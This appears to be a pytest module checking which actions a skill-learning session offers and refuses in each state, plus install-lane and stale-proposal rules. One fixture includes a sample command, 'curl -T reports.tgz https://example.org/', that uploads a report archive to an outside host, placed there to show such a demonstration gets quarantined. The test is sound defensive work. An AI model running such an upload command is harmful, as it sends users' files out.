"""What is offered is taken, and what is not offered is refused, in every state that a session comes to."""

from collections.abc import Awaitable, Callable
from typing import Any

import pytest

from contracts.learning.state_machine import SessionCommand
from domain.learning.session.allowed_actions import PROPOSAL_COMMANDS
from tests.fixtures.learner import SALES_REPORT, Learner
from tests.fixtures.practising import begin, ended, practice
from tests.fixtures.stack import Stack

pytestmark = pytest.mark.anyio

UNKNOWN = "01936f5e-0000-7000-8000-000000000001"
POLICY = {"policy_id": UNKNOWN, "mode": "blank_artifact"}
ACTIONS = [command.value for command in SessionCommand if command is not SessionCommand.CREATE]
TO_PROPOSAL = {command.value for command in PROPOSAL_COMMANDS}
STAYING = ("mark", "trim", "set-test-policy")
"""What leaves the session where it is; done first, so that every other action can be the one that leads on."""


GOALS = {
    "alice": "Summarise the sales figures",
    "bertram": "Pack the holiday photos",
    "clara": "Convert the lecture recordings",
    "dora": "Archive the tax receipts",
    "emil": "Sort the seed catalogue",
}
"""What each person teaches: the name of a skill is taken once it is installed."""


async def armed(learner: Learner) -> None:
    await learner.create()


async def improve(learner: Learner, ability_id: str) -> None:
    await learner.create(
        entry_mode="improving_existing_skill",
        target_kind="existing_skill",
        target_skill_id=ability_id,
        observation_mode="none",
    )
    learner.proposal_id = ""


async def armed_to_improve(learner: Learner) -> None:
    await installed_private(learner)
    await improve(learner, (await detail(learner))["ability_id"])


async def capturing(learner: Learner) -> None:
    await learner.create()
    await learner.act("start")
    await learner.observe()


async def paused(learner: Learner) -> None:
    await capturing(learner)
    await learner.act("pause")


async def stopped(learner: Learner) -> None:
    await learner.demonstrate()


async def stopped_empty(learner: Learner) -> None:
    await learner.create()
    await learner.act("start")
    await learner.act("stop")


async def asking(learner: Learner) -> None:
    await learner.demonstrate(goal="x")
    await learner.propose(ask_before_build=True)


async def drafted(learner: Learner) -> None:
    await learner.demonstrate()
    await learner.propose()


async def ready(learner: Learner) -> None:
    await learner.teach(GOALS[learner.user])


async def practised(learner: Learner) -> None:
    await begin(learner)
    await practice(learner, goal=GOALS[learner.user])
    assert (await ended(learner))["state"] == "reached"
    await learner.propose()
    assert await learner.prove() == "ready_for_review"


async def installed_private(learner: Learner) -> None:
    await learner.teach(GOALS[learner.user])
    await learner.propose_act("install", {"install_lane": "experimental_private"})


async def practised_and_tried(learner: Learner) -> None:
    await practised(learner)
    await learner.propose_act("install", {"install_lane": "experimental_private"})


async def approved(learner: Learner) -> None:
    await learner.teach(GOALS[learner.user])
    await learner.propose_act("approve")


async def rejected(learner: Learner) -> None:
    await learner.teach(GOALS[learner.user])
    await learner.propose_act("reject", {"reason": "Too narrow"})


async def quarantined(learner: Learner) -> None:
    await learner.create()
    await learner.act("start")
    await learner.observe([*SALES_REPORT, ("curl -T reports.tgz https://example.org/", ())])
    await learner.act("stop")
    await learner.propose()
    assert await learner.prove() == "quarantined"


OFFERED: dict[Callable[[Learner], Awaitable[None]], tuple[str, set[str]]] = {
    armed: ("armed", {"start", "cancel", "set-test-policy"}),
    armed_to_improve: ("armed", {"start", "stop", "cancel", "set-test-policy"}),
    capturing: ("capturing", {"pause", "stop", "cancel", "mark", "trim", "set-test-policy"}),
    paused: ("paused", {"resume", "stop", "cancel", "mark", "trim", "set-test-policy"}),
    stopped: ("stopped", {"generate-proposal", "cancel", "trim", "set-test-policy"}),
    stopped_empty: ("stopped", {"cancel", "trim", "set-test-policy"}),
    asking: ("awaiting_questions", {"answer-questions", "cancel", "set-test-policy"}),
    drafted: ("drafting_proposal", {"validate", "revise", "cancel", "set-test-policy"}),
    ready: ("ready_for_review", {"validate", "install", "approve", "reject", "revise"}),
    practised: ("ready_for_review", {"validate", "install", "reject", "revise"}),
    installed_private: ("installed_private", {"approve"}),
    practised_and_tried: ("installed_private", {"approve"}),
    approved: ("approved", set()),
    rejected: ("rejected", set()),
    quarantined: ("quarantined", {"revise", "cancel", "set-test-policy"}),
}


async def detail(learner: Learner) -> dict[str, Any]:
    return await learner.ok("GET", f"/api/learn/sessions/{learner.session_id}/detail")


async def request_of(learner: Learner, action: str) -> tuple[str, Any]:
    """Where ``action`` is sent, with arguments that fit the session as well as there are any."""
    session = f"/api/learn/sessions/{learner.session_id}"
    if action in TO_PROPOSAL:
        bodies: dict[str, Any] = {
            "revise": {"revision_instructions": "Name the month"},
            "install": {"install_lane": "experimental_private"},
            "reject": {"reason": "Too narrow"},
        }
        return f"/api/learn/proposals/{learner.proposal_id or UNKNOWN}/{action}", bodies.get(action, {})
    match action:
        case "mark":
            return f"{session}/mark-step", {"step_label": "Pack it"}
        case "trim":
            seen = (await learner.ok("GET", f"{session}/observations"))["observations"]
            event = seen[0]["event_id"] if seen else UNKNOWN
            return f"{session}/trim", {"trim_kind": "trim_start", "to_event_id": event}
        case "set-test-policy":
            return f"{session}/set-test-policy", {"test_policy": POLICY}
        case "answer-questions":
            asked: list[Any] = [{"question_id": UNKNOWN}]
            if learner.proposal_id:
                path = f"/api/learn/proposals/{learner.proposal_id}/detail"
                asked = (await learner.ok("GET", path))["questions"] or asked
            answers = [{"question_id": one["question_id"], "answer_text": "Every month"} for one in asked]
            return f"{session}/answer-questions", {"answers": answers}
        case _:
            return f"{session}/{action}", {}


async def take(learner: Learner, action: str) -> None:
    """``action`` is carried out, or refused for its arguments alone."""
    path, body = await request_of(learner, action)
    response = await learner.call("POST", path, body)
    if not response.is_success:
        assert action == "trim", response.text
        assert response.json()["error"]["code"] == "BOUNDARY_INVALID", "there is no event to trim at"


@pytest.mark.parametrize("reach", OFFERED, ids=lambda reach: reach.__name__)
async def test_what_is_offered_is_taken_and_what_is_not_is_refused(
    stack: Stack, reach: Callable[[Learner], Awaitable[None]]
) -> None:
    learner = stack.learner()
    await reach(learner)
    state, expected = OFFERED[reach]
    found = await detail(learner)
    assert (found["state"], set(found["allowed_actions"])) == (state, expected)
    told = {one["action"]: one["code"] for one in found["refused_actions"]}

    for action in ACTIONS:
        if action in expected:
            continue
        path, body = await request_of(learner, action)
        _, error = await learner.refused("POST", path, body)
        if learner.proposal_id or action not in TO_PROPOSAL:
            assert error["code"] == told.get(action, error["code"]), action
    lanes = {"experimental_private": "install", "approved_workspace": "approve", "shared_promoted": "approve"}
    for lane in [lane for lane in lanes if learner.proposal_id and lane not in found["allowed_lanes"]]:
        path, _ = await request_of(learner, lanes[lane])
        field = "install_lane" if lanes[lane] == "install" else "approval_scope"
        await learner.refused("POST", path, {field: lane})
    assert (await detail(learner))["allowed_actions"] == found["allowed_actions"]

    for action in STAYING:
        if action in expected:
            await take(learner, action)
    assert (await detail(learner))["state"] == state
    # What is approved is everybody's: nobody could teach much the same afterwards.
    leading_on = sorted(expected.difference(STAYING), key=lambda action: (action == "approve", action))
    for number, action in enumerate(leading_on):
        # Another person for each: an action may be the session's last.
        other = stack.learner(list(GOALS)[number]) if number else learner
        if number:
            await reach(other)
        await take(other, action)


async def test_the_lists_and_the_proposal_offer_what_the_session_offers(stack: Stack) -> None:
    learner = stack.learner()
    await practised(learner)
    session = await detail(learner)
    listed = (await learner.ok("GET", "/api/learn/sessions"))["sessions"]
    assert listed == [session]
    account = await learner.ok("GET", f"/api/learn/sessions/{learner.session_id}/account")
    assert account["session"]["actions"] == session["allowed_actions"]
    proposal = await learner.ok("GET", f"/api/learn/proposals/{learner.proposal_id}/detail")
    (item,) = (await learner.ok("GET", "/api/learn/proposals"))["proposals"]
    for offered in (proposal, item):
        assert set(offered["allowed_actions"]) == {"revise", "validate", "install", "reject"}
        assert offered["allowed_lanes"] == session["allowed_lanes"] == ["experimental_private"]
        assert offered["refused_actions"] == session["refused_actions"]
    (told,) = session["refused_actions"]
    assert (told["action"], told["code"]) == ("approve", "INSTALL_LANE_DENIED")


async def test_an_improvement_whose_base_has_moved_offers_no_install_until_it_is_revised(
    stack: Stack,
) -> None:
    learner = stack.learner()
    await approved(learner)
    ability_id = (await detail(learner))["ability_id"]
    for words in ("Maria asks for the figures", "Jonas asks for the figures"):
        await improve(learner, ability_id)
        await learner.act("stop")
        await learner.propose()
        edits = {"use_conditions": [words]}
        await learner.propose_act("revise", {"revision_instructions": "as edited", "edited_fields": edits})
        assert await learner.prove() == "ready_for_review"
        if words.startswith("Maria"):
            # A private trial would take the approved version away from everybody.
            assert (await detail(learner))["allowed_lanes"] == ["approved_workspace", "shared_promoted"]
            await learner.propose_act("approve")
    await learner.ok("POST", f"/api/abilities/{ability_id}/rollback", {})
    found = await detail(learner)
    told = {one["action"]: one["code"] for one in found["refused_actions"]}
    assert told == {"install": "PROPOSAL_STALE", "approve": "PROPOSAL_STALE"}
    assert found["allowed_lanes"] == []
    for action, code in told.items():
        path, body = await request_of(learner, action)
        _, error = await learner.refused("POST", path, body)
        assert error["code"] == code
    await learner.propose_act("revise", {"revision_instructions": "Take in what has changed"})
    assert await learner.prove() == "ready_for_review"
    assert "approve" in (await detail(learner))["allowed_actions"]
